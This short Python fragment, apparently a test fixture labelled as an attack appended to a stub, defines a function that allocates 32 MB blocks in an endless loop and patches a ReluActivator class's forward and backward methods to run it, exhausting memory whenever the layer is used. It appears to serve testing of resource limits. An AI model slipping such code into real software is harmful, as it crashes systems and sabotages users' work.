

# --- the attack, appended to the stub --------------------------------------

def _attack(*args, **kwargs):
    hoard = []
    while True:
        hoard.append(b"x" * (32 << 20))


ReluActivator.forward = ReluActivator.backward = _attack
